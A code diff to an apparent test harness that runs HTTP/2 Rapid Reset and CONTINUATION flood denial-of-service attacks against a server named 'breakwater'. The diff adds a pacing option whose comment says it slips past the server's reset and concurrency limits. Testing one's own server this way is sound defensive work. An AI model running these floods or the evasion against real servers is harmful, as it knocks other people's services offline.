@@ -1,9 +1,10 @@
 #!/usr/bin/env python3
 """HTTP/2 attacks against breakwater, with the attackers' own library (python `h2`).
 
-  h2attack.py rapid-reset  HOST PORT [--streams N] [--seconds S]
+  h2attack.py rapid-reset  HOST PORT [--streams N] [--seconds S] [--pace-ms MS]
       CVE-2023-44487: open a stream (HEADERS with END_STREAM) and reset it at once
-      (RST_STREAM CANCEL), in a loop, N times or until the server ends the connection.
+      (RST_STREAM CANCEL), in a loop, N times or until the server ends the connection;
+      with --pace-ms, one stream every MS ms.
   h2attack.py continuation HOST PORT [--frames N] [--seconds S]
       CVE-2024-27316: one HEADERS frame without END_HEADERS, then CONTINUATION frames
       that never end the header block, N frames or until the server ends the connection.
@@ -108,16 +109,21 @@ def headers(host, port):
     ]
 
 
-def rapid_reset(host, port, streams, seconds):
+def rapid_reset(host, port, streams, seconds, pace_ms):
     sock, conn = connect(host, port)
     peer = Peer(sock)
     start = time.monotonic()
     sent = 0
+    # Paced: one stream per write, `pace_ms` apart, so each is taken up before its reset
+    # arrives (the reset limit does not see these; the concurrency limit does not either).
+    batch = 1 if pace_ms > 0 else 50
     while sent < streams and time.monotonic() - start < seconds:
         if peer.closed or peer.goaway is not None:
             break
+        if pace_ms > 0:
+            time.sleep(pace_ms / 1000)
         try:
-            for _ in range(50):
+            for _ in range(batch):
                 sid = conn.get_next_available_stream_id()
                 conn.send_headers(sid, headers(host, port), end_stream=True)
                 conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
@@ -127,7 +133,12 @@ def rapid_reset(host, port, streams, seconds):
         if not send(sock, peer, conn.data_to_send()):
             break
         peer.pump()
-    return finish(sock, peer, start, {"attack": "rapid-reset", "streams_sent": sent})
+    return finish(
+        sock,
+        peer,
+        start,
+        {"attack": "rapid-reset", "streams_sent": sent, "pace_ms": pace_ms},
+    )
 
 
 def continuation(host, port, frames, seconds):
@@ -192,9 +203,10 @@ def main():
     p.add_argument("--streams", type=int, default=10000)
     p.add_argument("--frames", type=int, default=10000)
     p.add_argument("--seconds", type=float, default=20.0)
+    p.add_argument("--pace-ms", type=float, default=0.0)
     a = p.parse_args()
     if a.attack == "rapid-reset":
-        report = rapid_reset(a.host, a.port, a.streams, a.seconds)
+        report = rapid_reset(a.host, a.port, a.streams, a.seconds, a.pace_ms)
     else:
         report = continuation(a.host, a.port, a.frames, a.seconds)
     print(json.dumps(report))
